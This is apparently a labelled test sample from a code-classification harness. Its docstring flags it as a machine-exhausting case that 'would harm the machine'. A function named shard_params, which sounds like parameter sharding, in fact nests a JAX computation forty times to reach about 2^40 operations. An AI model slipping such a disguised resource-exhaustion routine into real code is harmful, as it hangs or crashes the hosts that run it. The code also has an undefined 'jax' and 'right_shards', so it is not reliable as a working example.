"""Forty functions that each call the one below twice, so that a small Program has 2 to the 40 operations.

group: exhausts
control: no: would harm the machine
uses: honest
"""

# %%
import jax.numpy as jnp


# %% [shard_params]
def shard_params(params, axis_name, min_size):
    def double(inner):
        return jax.jit(lambda leaf: inner(inner(leaf)))

    deep = jnp.sin
    for _ in range(40):
        deep = double(deep)
    params = jax.tree.map(deep, params)
    return right_shards(params, axis_name, min_size)
